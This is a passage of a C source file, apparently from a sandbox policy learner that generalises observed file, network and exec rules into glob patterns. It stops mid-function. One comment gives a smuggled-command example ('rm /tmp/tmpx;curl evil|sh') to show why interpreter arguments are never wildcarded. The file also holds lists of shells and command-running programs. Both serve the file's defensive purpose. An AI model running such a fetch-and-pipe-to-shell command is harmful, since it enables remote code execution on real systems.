// SPDX-License-Identifier: MIT
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "glob_trie.h"
#include "learn.h"
#include "learn_generalize.h"
#include "profile.h"
#include "util.h"

void learn_options_init(struct learn_options *o)
{
	*o = (struct learn_options){
		.enabled = true,
		.threshold = LEARN_DEFAULT_THRESHOLD,
		.ephemeral_lo = 32768,
		.ephemeral_hi = 60999,
	};
}

int learn_read_port_range(const char *path, uint16_t *ret_lo, uint16_t *ret_hi)
{
	_cleanup_close_ int fd = open(path, O_RDONLY | O_CLOEXEC);
	char buf[64], *end, *hi_at;
	if (fd < 0)
		return -errno;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0)
		return -errno;
	buf[n] = '\0';
	/* strtoul, not sscanf: an out-of-range number must be an error, not a wrapped value. */
	errno = 0;
	unsigned long lo = strtoul(buf, &hi_at, 10);
	unsigned long hi = strtoul(hi_at, &end, 10);
	end += strspn(end, " \t\n");
	if (errno || hi_at == buf || end == hi_at || *end || lo > hi || hi > 65535 || lo == 0)
		return -EINVAL;
	*ret_lo = (uint16_t)lo;
	*ret_hi = (uint16_t)hi;
	return 0;
}

static void meta_merge(struct rule_meta *into, const struct rule_meta *from)
{
	into->seen += from->seen;
	if (from->phase != PHASE_NONE && (into->phase == PHASE_NONE || from->phase < into->phase))
		into->phase = from->phase;
}

/* ---- generated names ------------------------------------------------------------ */

static bool has_prefix_dir(const char *s, const char *dir)
{
	size_t n = strlen(dir);
	return n > 1 && strncmp(s, dir, n) == 0 && s[n] == '/';
}

/* Length of the temporary directory s starts with (it has something below it), or 0. */
static size_t temp_prefix(const char *s, const struct learn_options *o)
{
	static const char *const dirs[] = {"/tmp", "/var/tmp", "/dev/shm", NULL};
	for (size_t i = 0; dirs[i]; i++)
		if (has_prefix_dir(s, dirs[i]))
			return strlen(dirs[i]);
	if (o->tmpdir && o->tmpdir[0] == '/') {
		size_t n = strlen(o->tmpdir);
		while (n > 1 && o->tmpdir[n - 1] == '/')
			n--;
		if (n > 1 && strncmp(s, o->tmpdir, n) == 0 && s[n] == '/')
			return n;
	}
	return 0;
}

static bool is_word_char(char c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
	       c == '_';
}

static bool is_hex(char c)
{
	return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
}

/* A UUID at s: 8-4-4-4-12 hex digits. */
static bool uuid_at(const char *s, size_t n)
{
	static const size_t groups[] = {8, 4, 4, 4, 12};
	size_t k = 0;
	for (size_t g = 0; g < 5; g++) {
		for (size_t i = 0; i < groups[g]; i++, k++)
			if (k >= n || !is_hex(s[k]))
				return false;
		if (g < 4 && (k >= n || s[k++] != '-'))
			return false;
	}
	return k == n || !is_hex(s[k]);
}

enum char_class {
	CC_LOWER,
	CC_UPPER,
	CC_DIGIT,
	CC_OTHER
};

static enum char_class class_of(char c)
{
	if (c >= 'a' && c <= 'z')
		return CC_LOWER;
	if (c >= 'A' && c <= 'Z')
		return CC_UPPER;
	if (c >= '0' && c <= '9')
		return CC_DIGIT;
	return CC_OTHER;
}

/*
 * Whether a run of word characters looks generated rather than chosen: a
 * number (a pid, a timestamp), a long hex or base32 run, or a mix of
 * letters and digits or of cases that changes class often, as random
 * suffixes do ("a8Zk2q") and words do not ("python3", "MyApp").
 */
static bool looks_generated(const char *t, size_t n)
{
	size_t digits = 0, letters = 0, upper = 0, lower = 0, hex = 0, changes = 0;
	for (size_t i = 0; i < n; i++) {
		enum char_class c = class_of(t[i]);
		digits += c == CC_DIGIT;
		letters += c == CC_LOWER || c == CC_UPPER;
		upper += c == CC_UPPER;
		lower += c == CC_LOWER;
		hex += is_hex(t[i]);
		if (i && c != class_of(t[i - 1]))
			changes++;
	}
	if (n >= 3 && digits == n)
		return true;
	if (n >= 12 && hex == n)
		return true;
	if (n >= 16 && digits + letters == n && (upper == 0 || lower == 0))
		return true; /* base32, base36 */
	if (n >= 6 && digits >= 2 && letters >= 2 && changes >= 3)
		return true;
	/* Python's tempfile: 8 of [a-z0-9_]; with a digit or '_' it is no word. */
	if (n == 8 && upper == 0 && (digits > 0 || digits + letters < n))
		return true;
	if (n >= 6 && upper >= 2 && lower >= 2 && changes >= 4)
		return true;
	return false;
}

/*
 * "tmp" followed by a generated suffix: Python's tempfile (8 of [a-z0-9_]),
 * mkstemp("tmpXXXXXX") and friends.
 */
static bool tmp_prefixed(const char *t, size_t n)
{
	if (n < 9 || n > 15 || strncmp(t, "tmp", 3) != 0)
		return false;
	const char *s = t + 3;
	size_t m = n - 3, digits = 0, upper = 0, lower = 0;
	for (size_t i = 0; i < m; i++) {
		digits += class_of(s[i]) == CC_DIGIT;
		upper += class_of(s[i]) == CC_UPPER;
		lower += class_of(s[i]) == CC_LOWER;
	}
	return digits > 0 || (upper && lower) || (m == 8 && upper == 0);
}

/*
 * Rewrites one path segment's generated parts as '*' into out (room for
 * n + 1). loose: the run removed the file, so its name was made for the
 * run: any run of six or more word characters is taken as generated.
 */
static size_t rewrite_segment(const char *s, size_t n, char *out, bool loose)
{
	size_t w = 0;
	for (size_t i = 0; i < n;) {
		if (is_hex(s[i]) && (i == 0 || !is_word_char(s[i - 1])) && uuid_at(s + i, n - i)) {
			out[w++] = '*';
			i += 36;
			continue;
		}
		if (!is_word_char(s[i])) {
			out[w++] = s[i++];
			continue;
		}
		size_t j = i;
		while (j < n && is_word_char(s[j]))
			j++;
		if (tmp_prefixed(s + i, j - i)) {
			memcpy(out + w, "tmp*", 4);
			w += 4;
		} else if (looks_generated(s + i, j - i) || (loose && j - i >= 6)) {
			out[w++] = '*';
		} else {
			memcpy(out + w, s + i, j - i);
			w += j - i;
		}
		i = j;
	}
	/* "**" inside a segment would read as the recursive wildcard: one '*' is the same. */
	size_t k = 0;
	for (size_t i = 0; i < w; i++)
		if (!(out[i] == '*' && k > 0 && out[k - 1] == '*'))
			out[k++] = out[i];
	return k;
}

/*
 * The step 1 rewrite of s. The segment ending at loose_len (a directory the
 * run created and removed: its own name was made for the run, not those of
 * the directories above it, which stay) and, when loose_last, the last one
 * are rewritten loosely.
 */
static char *temp_name(const char *s, const struct learn_options *o, size_t loose_len,
		       bool loose_last)
{
	size_t skip = s[0] == '@' ? 1 : 0;
	size_t pre = temp_prefix(s + skip, o);
	size_t n = strlen(s);
	char *out = malloc(n + 1);
	if (!out)
		return NULL;
	if (!pre) {
		memcpy(out, s, n + 1);
		return out;
	}
	pre += skip;
	memcpy(out, s, pre);
	size_t w = pre;
	for (size_t i = pre; i < n;) {
		/* s[i] is '/' */
		out[w++] = s[i++];
		size_t j = i;
		while (j < n && s[j] != '/')
			j++;
		/* Wildcards already there are kept as they are. */
		if (memchr(s + i, '*', j - i) || memchr(s + i, '?', j - i)) {
			memcpy(out + w, s + i, j - i);
			w += j - i;
		} else {
			bool loose = j == loose_len || (loose_last && j == n);
			w += rewrite_segment(s + i, j - i, out + w, loose);
		}
		i = j;
	}
	out[w] = '\0';
	return out;
}

char *learn_generalize_temp_name(const char *s, const struct learn_options *o)
{
	return temp_name(s, o, 0, false);
}

/* ---- files ------------------------------------------------------------------------ */

struct entry {
	char *glob;
	uint8_t rights;
	struct rule_meta meta;
	bool dead;
};

struct entries {
	struct entry *v;
	size_t n;
};

static int cmp_entry(const void *a, const void *b)
{
	const struct entry *x = a, *y = b;
	if (x->dead != y->dead)
		return x->dead ? 1 : -1;
	if (x->dead)
		return 0;
	return strcmp(x->glob, y->glob);
}

/* Sorts, merges equal globs (rights and meta unioned) and drops dead entries. */
static void entries_merge(struct entries *es)
{
	size_t w = 0;
	if (es->n > 1)
		qsort(es->v, es->n, sizeof(*es->v), cmp_entry);
	for (size_t i = 0; i < es->n; i++) {
		struct entry *e = &es->v[i];
		if (e->dead) {
			free(e->glob);
			continue;
		}
		if (w > 0 && strcmp(es->v[w - 1].glob, e->glob) == 0) {
			es->v[w - 1].rights |= e->rights;
			meta_merge(&es->v[w - 1].meta, &e->meta);
			free(e->glob);
			continue;
		}
		es->v[w++] = *e;
	}
	es->n = w;
}

static size_t depth_of(const char *dir)
{
	size_t d = 0;
	for (const char *p = dir; *p; p++)
		d += *p == '/';
	return strcmp(dir, "/") == 0 ? 0 : d;
}

static size_t count_double_star(const char *g)
{
	size_t n = 0;
	for (const char *p = g; (p = strstr(p, "/**")); p += 3)
		if (p[3] == '/' || p[3] == '\0')
			n++;
	return n;
}

/*
 * Where many siblings may stand for "everything here": not the root, not
 * kernel and device interfaces (/proc, /sys, /dev: each file there is its
 * own capability), and not a top-level directory (/etc, /usr, /root) other
 * than a temporary one, whose few files are better named one by one.
 */
static bool collapsible(const char *dir, const struct learn_options *o)
{
	static const char *const never[] = {"/proc", "/sys", "/dev", NULL};
	if (strstr(dir, "**"))
		return false;
	for (size_t i = 0; never[i]; i++)
		if (strcmp(dir, never[i]) == 0 || has_prefix_dir(dir, never[i]))
			return false;
	if (depth_of(dir) >= 2)
		return true;
	char probe[PATH_MAX];
	snprintf(probe, sizeof(probe), "%s/x", dir);
	return temp_prefix(probe, o) == strlen(dir);
}

struct dir_item {
	char *dir;
	size_t depth;
};

static int cmp_dir_item(const void *a, const void *b)
{
	const struct dir_item *x = a, *y = b;
	if (x->depth != y->depth)
		return x->depth > y->depth ? -1 : 1;
	return strcmp(x->dir, y->dir);
}

/* Every directory some entry lies below (not the root), deepest first, without repeats. */
static int list_dirs(const struct entries *es, struct dir_item **ret, size_t *ret_n)
{
	size_t cap = 0, n = 0;
	struct dir_item *v = NULL;
	for (size_t i = 0; i < es->n; i++) {
		const char *g = es->v[i].glob;
		for (const char *p = strchr(g + 1, '/'); p; p = strchr(p + 1, '/')) {
			if (n == cap) {
				cap = cap ? cap * 2 : 64;
				struct dir_item *m = realloc(v, cap * sizeof(*v));
				if (!m)
					goto oom;
				v = m;
			}
			v[n].dir = strndup(g, (size_t)(p - g));
			if (!v[n].dir)
				goto oom;
			v[n].depth = depth_of(v[n].dir);
			n++;
		}
	}
	if (n > 1)
		qsort(v, n, sizeof(*v), cmp_dir_item);
	size_t w = 0;
	for (size_t i = 0; i < n; i++) {
		if (w > 0 && strcmp(v[w - 1].dir, v[i].dir) == 0) {
			free(v[i].dir);
			continue;
		}
		v[w++] = v[i];
	}
	*ret = v;
	*ret_n = w;
	return 0;
oom:
	for (size_t i = 0; i < n; i++)
		free(v[i].dir);
	free(v);
	return -ENOMEM;
}

/* A name below a directory, and the rights it was seen with. */
struct child {
	char *name;
	uint8_t rights;
};

static int cmp_child(const void *a, const void *b)
{
	const struct child *x = a, *y = b;
	if (x->rights != y->rights)
		return x->rights < y->rights ? -1 : 1;
	return strcmp(x->name, y->name);
}

/*
 * The rights that threshold or more distinct names below dir were seen
 * with, each right set counted on its own: seven files read and one written
 * give "dir/*" for reading, not for writing every file there. Names holding
 * '?' or '*' (bytes a pattern could not say, or someone's "*") are not
 * counted: whoever chose them could make as many as it takes.
 */
static uint8_t collapsible_rights(struct child *c, size_t n, size_t threshold)
{
	uint8_t rights = 0;
	size_t distinct = 0;

	if (n > 1)
		qsort(c, n, sizeof(*c), cmp_child);
	for (size_t i = 0; i < n; i++) {
		if (i > 0 && c[i].rights != c[i - 1].rights)
			distinct = 0;
		if (strpbrk(c[i].name, "?*"))
			continue;
		if (i == 0 || c[i].rights != c[i - 1].rights ||
		    strcmp(c[i].name, c[i - 1].name) != 0)
			distinct++;
		if (distinct >= threshold)
			rights |= c[i].rights;
	}
	return rights;
}

/* Collapses dir when threshold or more distinct names below it share their rights. */
static int collapse_dir(struct entries *es, const char *dir, const struct learn_options *o)
{
	size_t dlen = strlen(dir), below = 0;
	_cleanup_free_ struct child *kids = calloc(es->n ? es->n : 1, sizeof(*kids));
	bool nested = false;
	int r = 0;

	if (!kids)
		return -ENOMEM;
	for (size_t i = 0; i < es->n; i++) {
		const char *g = es->v[i].glob;
		if (es->v[i].dead || strncmp(g, dir, dlen) != 0 || g[dlen] != '/')
			continue;
		const char *child = g + dlen + 1, *slash = strchr(child, '/');
		kids[below].name = strndup(child, slash ? (size_t)(slash - child) : strlen(child));
		kids[below].rights = es->v[i].rights;
		if (!kids[below].name) {
			r = -ENOMEM;
			goto out;
		}
		below++;
	}
	uint8_t rights = below ? collapsible_rights(kids, below, o->threshold) : 0;
	if (!rights)
		goto out;
	/* What goes into the merged rule: entries its rights cover. */
	for (size_t i = 0; i < es->n; i++) {
		const char *g = es->v[i].glob;
		if (es->v[i].dead || strncmp(g, dir, dlen) != 0 || g[dlen] != '/' ||
		    (es->v[i].rights & ~rights))
			continue;
		const char *child = g + dlen + 1;
		if (strchr(child, '/') || strcmp(child, "**") == 0)
			nested = true;
	}
	if (nested && count_double_star(dir) >= GLOB_MAX_DOUBLE_STAR)
		goto out;
	if (dlen + 4 >= GLOB_MAX_LEN)
		goto out;

	struct entry merged = {.rights = rights};
	if (asprintf(&merged.glob, "%s/%s", dir, nested ? "**" : "*") < 0) {
		r = -ENOMEM;
		goto out;
	}
	for (size_t i = 0; i < es->n; i++) {
		struct entry *e = &es->v[i];
		const char *g = e->glob;
		bool under = strncmp(g, dir, dlen) == 0 && g[dlen] == '/';
		/* dir/** matches dir itself too. */
		bool self = nested && strcmp(g, dir) == 0;
		if (e->dead || !(under || self) || (e->rights & ~rights))
			continue;
		meta_merge(&merged.meta, &e->meta);
		e->dead = true;
	}
	/* The entries array has room: dead ones are reused. */
	for (size_t i = 0; i < es->n; i++) {
		if (es->v[i].dead) {
			free(es->v[i].glob);
			es->v[i] = merged;
			break;
		}
	}
out:
	for (size_t i = 0; i < below; i++)
		free(kids[i].name);
	return r;
}

static int collapse_siblings(struct entries *es, const struct learn_options *o)
{
	struct dir_item *dirs = NULL;
	size_t n = 0;
	int r;

	if (o->threshold == 0)
		return 0;
	r = list_dirs(es, &dirs, &n);
	for (size_t i = 0; r == 0 && i < n; i++)
		if (collapsible(dirs[i].dir, o))
			r = collapse_dir(es, dirs[i].dir, o);
	for (size_t i = 0; i < n; i++)
		free(dirs[i].dir);
	free(dirs);
	entries_merge(es);
	return r;
}

/* The value a variable stands for: the environment's, else the documented default. */
static const char *var_root(const char *value, const char *fallback)
{
	return value && value[0] == '/' && value[1] ? value : fallback;
}

/* glob written with ${LAMBDA_TASK_ROOT} or ${LAMBDA_RUNTIME_DIR} when below one. Caller frees. */
static char *with_variables(const char *glob, const struct learn_options *o)
{
	struct {
		const char *var, *root;
	} vars[] = {
		{"LAMBDA_TASK_ROOT", var_root(o->task_root, "/var/task")},
		{"LAMBDA_RUNTIME_DIR", var_root(o->runtime_dir, "/var/runtime")},
	};
	/* The longer root first: one may lie below the other. */
	if (strlen(vars[1].root) > strlen(vars[0].root)) {
		__typeof__(vars[0]) t = vars[0];
		vars[0] = vars[1];
		vars[1] = t;
	}
	for (size_t i = 0; i < 2; i++) {
		size_t n = strlen(vars[i].root);
		while (n > 1 && vars[i].root[n - 1] == '/')
			n--;
		if (strncmp(glob, vars[i].root, n) == 0 && (glob[n] == '/' || glob[n] == '\0')) {
			char *out;
			if (asprintf(&out, "${%s}%s", vars[i].var, glob + n) < 0)
				return NULL;
			return out;
		}
	}
	return strdup(glob);
}

/*
 * Removed in the run: a scratch file or directory, named for the run (its
 * creation may not have been seen: mkdtemp(3) calls mkdir inside libc).
 */
static bool ephemeral(const struct file_rule *f)
{
	return f->allow && !f->deny && (f->allow & POLICY_RIGHT_DELETE) && !strpbrk(f->glob, "*?");
}

/*
 * The run's scratch names (ephemeral file rules), kept before the file rules
 * are generalised: a name that is one, or lies below one, is rewritten
 * loosely in file rules, unix socket paths and programs' arguments (a
 * socket in a removed directory, rm -rf of the directory mktemp made).
 */
struct scratch {
	char **v;
	size_t n;
};

static void scratch_free(struct scratch *sc)
{
	for (size_t i = 0; i < sc->n; i++)
		free(sc->v[i]);
	free(sc->v);
}

static int scratch_collect(const struct profile *p, struct scratch *sc)
{
	sc->v = calloc(p->n_files ? p->n_files : 1, sizeof(*sc->v));
	if (!sc->v)
		return -ENOMEM;
	for (size_t i = 0; i < p->n_files; i++)
		if (p->files[i].glob && ephemeral(&p->files[i]) &&
		    !(sc->v[sc->n++] = strdup(p->files[i].glob)))
			return -ENOMEM;
	return 0;
}

/* temp_name of s, loose where s is, or lies below, one of the run's scratch names. */
static char *scratch_temp_name(const char *s, const struct learn_options *o,
			       const struct scratch *sc)
{
	size_t dir = 0;
	bool self = false;
	for (size_t i = 0; i < sc->n; i++) {
		size_t n = strlen(sc->v[i]);
		if (strncmp(s, sc->v[i], n) != 0)
			continue;
		if (s[n] == '\0')
			self = true;
		else if (s[n] == '/' && n > dir)
			dir = n;
	}
	return temp_name(s, o, dir, self);
}

static int generalize_files(struct profile *p, const struct learn_options *o,
			    const struct scratch *sc)
{
	struct entries es = {.v = calloc(p->n_files ? p->n_files : 1, sizeof(struct entry))};
	size_t keep = 0;
	int r = 0;

	if (!es.v)
		return -ENOMEM;
	/* Rules already written with a variable came from a document: left as they are. */
	for (size_t i = 0; i < p->n_files; i++) {
		struct file_rule *f = &p->files[i];
		struct entry *e = &es.v[i];
		if (!f->allow || f->deny || strstr(f->path, "${")) {
			e->dead = true; /* kept as it is, below */
			continue;
		}
		e->glob = scratch_temp_name(f->glob, o, sc);
		e->rights = f->allow;
		e->meta = f->meta;
		if (!e->glob)
			r = -ENOMEM;
	}
	/* Only now: the rewrite looked at every rule's original path. */
	for (size_t i = 0; i < p->n_files; i++) {
		struct file_rule *f = &p->files[i];
		if (es.v[i].dead) {
			p->files[keep++] = *f;
			continue;
		}
		free(f->path);
		free(f->glob);
	}
	es.n = p->n_files;
	p->n_files = keep;
	if (r == 0) {
		entries_merge(&es);
		r = collapse_siblings(&es, o);
	}
	for (size_t i = 0; i < es.n; i++) {
		struct entry *e = &es.v[i];
		if (r == 0) {
			struct file_rule *f = &p->files[p->n_files];
			memset(f, 0, sizeof(*f));
			f->path = with_variables(e->glob, o);
			f->glob = e->glob;
			f->allow = e->rights;
			f->meta = e->meta;
			e->glob = NULL;
			if (!f->path) {
				free(f->glob);
				r = -ENOMEM;
				continue;
			}
			p->n_files++;
		}
		free(e->glob);
	}
	free(es.v);
	return r;
}

static int cmp_file_rule(const void *a, const void *b)
{
	const struct file_rule *x = a, *y = b;
	int c = strcmp(x->path, y->path);
	if (c)
		return c;
	return (x->deny != 0) - (y->deny != 0);
}

/* Merges rules written the same way (after rewriting, two may coincide). */
static void merge_file_rules(struct profile *p)
{
	size_t w = 0;
	if (p->n_files > 1)
		qsort(p->files, p->n_files, sizeof(*p->files), cmp_file_rule);
	for (size_t i = 0; i < p->n_files; i++) {
		struct file_rule *f = &p->files[i];
		if (w > 0 && cmp_file_rule(&p->files[w - 1], f) == 0) {
			p->files[w - 1].allow |= f->allow;
			p->files[w - 1].deny |= f->deny;
			meta_merge(&p->files[w - 1].meta, &f->meta);
			free(f->path);
			free(f->glob);
			continue;
		}
		p->files[w++] = *f;
	}
	p->n_files = w;
}

/* ---- network --------------------------------------------------------------------- */

static bool loopback(const struct net_rule_def *d)
{
	if (d->rule.kind == NET_RULE_CIDR) {
		const struct net_cidr *c = &d->rule.cidr;
		static const uint8_t v6_loop[16] = {[15] = 1};
		if (c->family == AF_INET)
			return c->prefix_len >= 8 && c->addr[0] == 127;
		return c->prefix_len == 128 && memcmp(c->addr, v6_loop, 16) == 0;
	}
	if (d->rule.kind == NET_RULE_HOST) {
		size_t n = strlen(d->text);
		return strcmp(d->text, "localhost") == 0 || strcmp(d->text, "ip6-localhost") == 0 ||
		       (n > 10 && strcmp(d->text + n - 10, ".localhost") == 0);
	}
	return false;
}

/*
 * A loopback server started for the run (bound to port 0) gets a new port
 * each time, as does anything the function itself listens on: such ports
 * become the whole ephemeral range (and port 0, for the bind).
 */
static int generalize_ports(struct net_rule_def *d, const struct learn_options *o)
{
	bool widen = false, zero = false;
	if (d->rule.kind == NET_RULE_UNIX || d->rule.n_ports == 0 || o->ephemeral_hi == 0)
		return 0;
	if (!d->rule.inbound && !loopback(d))
		return 0;
	for (size_t i = 0; i < d->rule.n_ports; i++) {
		struct net_port_range *pr = &d->ports[i];
		if (pr->lo == 0 && pr->hi == 0 && d->rule.inbound) {
			zero = widen = true;
		} else if (pr->lo >= o->ephemeral_lo && pr->hi <= o->ephemeral_hi) {
			pr->lo = o->ephemeral_lo;
			pr->hi = o->ephemeral_hi;
			widen = true;
		}
	}
	if (zero) {
		struct net_port_range *m =
			realloc(d->ports, (d->rule.n_ports + 1) * sizeof(*d->ports));
		if (!m)
			return -ENOMEM;
		d->ports = m;
		d->ports[d->rule.n_ports++] =
			(struct net_port_range){o->ephemeral_lo, o->ephemeral_hi};
	}
	if (widen)
		d->rule.n_ports = learn_ports_normalize(d->ports, d->rule.n_ports);
	d->rule.ports = d->ports;
	return 0;
}

/* An AWS region label: us-east-1, eu-central-2, us-gov-west-1, cn-north-1, us-isob-east-1. */
static bool region_label(const char *s, size_t n)
{
	size_t i = 0, dashes = 0;
	if (n < 9 || !(s[0] >= 'a' && s[0] <= 'z') || !(s[1] >= 'a' && s[1] <= 'z') || s[2] != '-')
		return false;
	for (i = 2; i < n; i++) {
		if (s[i] == '-')
			dashes++;
		else if (!(s[i] >= 'a' && s[i] <= 'z') && !(s[i] >= '0' && s[i] <= '9'))
			return false;
	}
	/* Ends in -<digits>. */
	size_t d = n;
	while (d > 0 && s[d - 1] >= '0' && s[d - 1] <= '9')
		d--;
	return d < n && d > 0 && s[d - 1] == '-' && dashes >= 2 && dashes <= 3;
}

/* service.region.amazonaws.com -> service.*.amazonaws.com. Caller frees; NULL if not AWS. */
static char *aws_pattern(const char *host)
{
	static const char *const suffixes[] = {".amazonaws.com", ".amazonaws.com.cn", NULL};
	size_t n = strlen(host), end = 0;
	for (size_t i = 0; suffixes[i]; i++) {
		size_t m = strlen(suffixes[i]);
		if (n > m && strcmp(host + n - m, suffixes[i]) == 0)
			end = n - m;
	}
	if (!end)
		return NULL;
	char *out = strdup(host);
	if (!out)
		return NULL;
	/* Each label before the suffix; the region may also end a label (s3-us-west-2). */
	for (size_t start = 0; start < end;) {
		size_t stop = start;
		while (stop < end && out[stop] != '.')
			stop++;
		for (size_t k = start; k < stop; k++) {
			if ((k == start || out[k - 1] == '-') && region_label(out + k, stop - k)) {
				out[k] = '*';
				memmove(out + k + 1, out + stop, strlen(out + stop) + 1);
				end -= stop - k - 1;
				stop = k + 1;
				break;
			}
		}
		start = stop + 1;
	}
	if (strcmp(out, host) == 0 || glob_validate(GLOB_TRIE_HOST, out, NULL, NULL) < 0) {
		free(out);
		return NULL;
	}
	return out;
}

static int cmp_net_rule(const void *a, const void *b)
{
	const struct net_rule_def *x = a, *y = b;
	if (x->rule.kind != y->rule.kind)
		return x->rule.kind < y->rule.kind ? -1 : 1;
	int c = strcmp(x->text, y->text);
	if (c)
		return c;
	if (x->rule.proto != y->rule.proto)
		return x->rule.proto < y->rule.proto ? -1 : 1;
	return (int)x->rule.inbound - (int)y->rule.inbound;
}

/* Merges rules for the same target, protocol and direction: their ports union. */
static int merge_net_rules(struct profile *p)
{
	size_t w = 0;
	if (p->n_net > 1)
		qsort(p->net, p->n_net, sizeof(*p->net), cmp_net_rule);
	for (size_t i = 0; i < p->n_net; i++) {
		struct net_rule_def *d = &p->net[i];
		if (w > 0 && cmp_net_rule(&p->net[w - 1], d) == 0) {
			struct net_rule_def *into = &p->net[w - 1];
			meta_merge(&into->meta, &d->meta);
			if (into->rule.n_ports && d->rule.n_ports) {
				size_t total = into->rule.n_ports + d->rule.n_ports;
				struct net_port_range *m = realloc(into->ports, total * sizeof(*m));
				if (!m)
					return -ENOMEM;
				memcpy(m + into->rule.n_ports, d->ports,
				       d->rule.n_ports * sizeof(*m));
				into->ports = m;
				into->rule.n_ports = learn_ports_normalize(m, total);
			} else if (into->rule.n_ports) {
				/* One allowed any port: so does the union. */
				free(into->ports);
				into->ports = NULL;
				into->rule.n_ports = 0;
			}
			into->rule.ports = into->ports;
			free(d->text);
			free(d->glob);
			free(d->ports);
			continue;
		}
		p->net[w++] = *d;
	}
	p->n_net = w;
	for (size_t i = 0; i < p->n_net; i++) {
		p->net[i].rule.pattern = p->net[i].glob;
		p->net[i].rule.ports = p->net[i].ports;
	}
	return 0;
}

static int generalize_net(struct profile *p, const struct learn_options *o,
			  const struct scratch *sc)
{
	for (size_t i = 0; i < p->n_net; i++) {
		struct net_rule_def *d = &p->net[i];
		int r = generalize_ports(d, o);
		if (r < 0)
			return r;
		if (d->rule.kind == NET_RULE_HOST && o->generalize_aws) {
			char *pat = aws_pattern(d->text);
			if (pat) {
				char *glob = strdup(pat);
				if (!glob) {
					free(pat);
					return -ENOMEM;
				}
				free(d->text);
				free(d->glob);
				d->text = pat;
				d->glob = glob;
				d->rule.pattern = glob;
			}
		}
		if (d->rule.kind == NET_RULE_UNIX && !strstr(d->text, "${")) {
			char *g = scratch_temp_name(d->text, o, sc);
			char *text = g ? with_variables(g, o) : NULL;
			if (!text) {
				free(g);
				return -ENOMEM;
			}
			free(d->text);
			free(d->glob);
			d->text = text;
			d->glob = g;
			d->rule.pattern = g;
		}
	}
	return merge_net_rules(p);
}

/* ---- exec ------------------------------------------------------------------------ */

static const char *base_name(const char *path)
{
	const char *s = strrchr(path, '/');
	return s ? s + 1 : path;
}

static bool name_in(const char *name, const char *const *list)
{
	for (size_t i = 0; list[i]; i++)
		if (strcmp(name, list[i]) == 0)
			return true;
	return false;
}

/* python, python3, python3.12 */
static bool numbered(const char *name, const char *stem)
{
	size_t n = strlen(stem);
	if (strncmp(name, stem, n) != 0)
		return false;
	for (const char *p = name + n; *p; p++)
		if (!((*p >= '0' && *p <= '9') || *p == '.'))
			return false;
	return true;
}

/*
 * The index of the argument that is code rather than data (sh -c CODE,
 * python -c CODE, node -e CODE, perl -e CODE, awk PROGRAM), or -1. Such an
 * argument is never generalised: '*' there would allow any command.
 */
static ssize_t code_arg(const char *path, char *const *argv, size_t argc)
{
	static const char *const shells[] = {"sh",  "bash", "dash", "zsh",     "ksh",
					     "ash", "mksh", "yash", "busybox", NULL};
	static const char *const evalers[] = {"node", "nodejs", "deno", "bun",	   "perl",
					      "ruby", "php",	"lua",	"Rscript", NULL};
	static const char *const awks[] = {"awk", "gawk", "mawk", "nawk", NULL};
	const char *name = base_name(path);

	if (name_in(name, shells)) {
		size_t i = 1;
		bool c = false;
		if (strcmp(name, "busybox") == 0 && argc > 1)
			i = 2; /* busybox sh -c */
		for (; i < argc && argv[i][0] == '-' && argv[i][1] && argv[i][1] != '-'; i++)
			c = c || strchr(argv[i], 'c');
		if (i < argc && strcmp(argv[i], "--") == 0)
			i++;
		return c && i < argc ? (ssize_t)i : -1;
	}
	if (numbered(name, "python") || numbered(name, "pypy")) {
		for (size_t i = 1; i < argc; i++) {
			if (strcmp(argv[i], "-c") == 0)
				return i + 1 < argc ? (ssize_t)(i + 1) : -1;
			if (strncmp(argv[i], "-c", 2) == 0)
				return (ssize_t)i;
			if (argv[i][0] != '-')
				return -1;
		}
		return -1;
	}
	if (name_in(name, evalers)) {
		for (size_t i = 1; i < argc; i++) {
			const char *a = argv[i];
			if (strcmp(a, "-e") == 0 || strcmp(a, "-E") == 0 || strcmp(a, "-p") == 0 ||
			    strcmp(a, "-r") == 0 || strcmp(a, "--eval") == 0 ||
			    strcmp(a, "--print") == 0)
				return i + 1 < argc ? (ssize_t)(i + 1) : -1;
			if (strncmp(a, "--eval=", 7) == 0 || strncmp(a, "--print=", 8) == 0)
				return (ssize_t)i;
		}
		return -1;
	}
	if (name_in(name, awks)) {
		for (size_t i = 1; i < argc; i++) {
			if (strcmp(argv[i], "-f") == 0)
				return -1;
			if (strcmp(argv[i], "-F") == 0 || strcmp(argv[i], "-v") == 0) {
				i++;
				continue;
			}
			if (argv[i][0] != '-')
				return (ssize_t)i;
		}
	}
	return -1;
}

/*
 * Programs whose arguments may be code, or another command line: shells and
 * interpreters (whatever their options: "bash -euo pipefail -c CODE",
 * "python3 -W ignore -c CODE", "perl -ne CODE" hide the code from
 * code_arg()), and programs that run another one (env, timeout, xargs,
 * find -exec, ...). Their arguments are never generalised: a '*' from two
 * runs' different CODE, or from a temporary name inside it, would allow any
 * command ("rm /tmp/tmp*" matches "rm /tmp/tmpx;curl evil|sh").
 */
static bool runs_code(const char *path)
{
	static const char *const others[] = {
		"node",	  "nodejs",  "deno",	  "bun",   "perl",   "ruby",	 "php",
		"lua",	  "Rscript", "awk",	  "gawk",  "mawk",   "nawk",	 "sed",
		"env",	  "timeout", "nice",	  "nohup", "stdbuf", "setsid",	 "xargs",
		"flock",  "sudo",    "su",	  "doas",  "chroot", "ionice",	 "taskset",
		"strace", "time",    "script",	  "watch", "find",   "parallel", "busybox",
		"java",	  "jshell",  "osascript", NULL};
	static const char *const shells[] = {"sh",   "bash", "dash", "zsh", "ksh",  "ash",
					     "mksh", "yash", "fish", "csh", "tcsh", NULL};
	const char *name = base_name(path);
	return name_in(name, shells) || name_in(name, others) || numbered(name, "python") ||
	       numbered(name, "pypy") || numbered(name, "perl") || numbered(name, "ruby") ||
	       numbered(name, "php") || numbered(name, "lua");
}

/* Rewrites an exec rule's path and arguments for generated names and variables. */
static int exec_rewrite(struct exec_rule *e, const struct learn_options *o,
			const struct scratch *sc)
{
	if (!strstr(e->path, "${")) {
		char *g = scratch_temp_name(e->glob, o, sc);
		char *path = g ? with_variables(g, o) : NULL;
		if (!path) {
			free(g);
			return -ENOMEM;
		}
		free(e->path);
		free(e->glob);
		e->path = path;
		e->glob = g;
	}
